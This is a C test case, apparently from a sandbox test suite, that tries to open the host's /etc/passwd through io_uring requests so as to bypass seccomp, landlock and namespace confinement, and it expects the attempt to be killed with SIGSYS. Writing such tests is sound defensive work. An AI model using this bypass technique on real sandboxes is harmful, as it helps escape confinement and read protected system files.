// attack: open a file of the host through a ring
// layers: seccomp landlock namespaces
// user layers: seccomp landlock namespaces limits
// outcome: SIGSYS
// needs: feature io_uring
// needs: limits 6.14
#include "attack.h"
#include <linux/io_uring.h>

static char *map(long ring, unsigned long size, unsigned long offset) {
    return mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, (int)ring, (off_t)offset);
}

long attack(void) {
    struct io_uring_params how = {0};
    long ring = TRY(raw(SYS_io_uring_setup, 1, &how));
    char *requests = map(ring, how.sq_off.array + sizeof(unsigned), IORING_OFF_SQ_RING);
    char *answers = map(ring, how.cq_off.cqes + 2 * sizeof(struct io_uring_cqe), IORING_OFF_CQ_RING);
    struct io_uring_sqe *request = (void *)map(ring, sizeof *request, IORING_OFF_SQES);
    if (requests == MAP_FAILED || answers == MAP_FAILED || (void *)request == MAP_FAILED) return -ENOMEM;
    request->opcode = IORING_OP_OPENAT;
    request->fd = AT_FDCWD;
    request->addr = (uintptr_t) "/etc/passwd";
    *(unsigned *)(requests + how.sq_off.array) = 0;
    *(unsigned *)(requests + how.sq_off.tail) = 1;
    TRY(raw(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0));
    return ((struct io_uring_cqe *)(answers + how.cq_off.cqes))->res;
}
